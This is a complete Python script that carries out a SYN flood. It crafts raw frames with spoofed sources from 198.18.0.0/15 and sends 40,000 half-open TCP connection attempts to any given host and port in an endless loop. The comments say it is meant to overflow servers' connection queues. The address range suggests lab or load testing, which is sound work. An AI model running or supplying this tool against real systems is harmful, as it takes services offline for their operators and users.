"""A program that begins connections to a port without end, by senders that do not exist: a flood of SYNs.

`syn_flood.py INTERFACE MAC HOST PORT` sends from 198.18.0.0/15 (RFC 2544), and never answers what comes back.
"""

import socket
import struct
import sys
from collections.abc import Iterator
from random import Random
from typing import Final

SENDERS: Final = "198.18.0.0/15"
_COUNT: Final = 40_000  # of different connections: more than the queues of several workers hold
_OWN_MAC: Final = bytes.fromhex("020000000063")
_SYN: Final = 2
_LENGTH: Final = 20  # of a header without options


def checksum(data: bytes) -> int:
    """Return the Internet checksum of an even number of bytes."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def frames(mac: bytes, host: bytes, port: int) -> Iterator[bytes]:
    """Yield Ethernet frames with one SYN each."""
    random = Random(1)  # noqa: S311  # senders, no secrets
    for number in range(_COUNT):
        source = bytes((198, 18 + number % 2, random.randrange(256), random.randrange(1, 255)))
        segment = struct.pack(
            "!HHIIBBHHH",
            random.randrange(1024, 65536),
            port,
            random.getrandbits(32),
            0,
            0x50,
            _SYN,
            64240,
            0,
            0,
        )
        pseudo = source + host + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment))
        segment = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
        header = struct.pack(
            "!BBHHHBBH4s4s", 0x45, 0, 2 * _LENGTH, 0, 0, 64, socket.IPPROTO_TCP, 0, source, host
        )
        header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
        yield mac + _OWN_MAC + struct.pack("!H", 0x0800) + header + segment


def main(interface: str, mac: str, host: str, port: str) -> None:
    """Send until somebody ends us."""
    made = list(frames(bytes.fromhex(mac.replace(":", "")), socket.inet_aton(host), int(port)))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sender:
        sender.bind((interface, 0))
        while True:
            for each in made:
                sender.send(each)


if __name__ == "__main__":
    main(*sys.argv[1:])
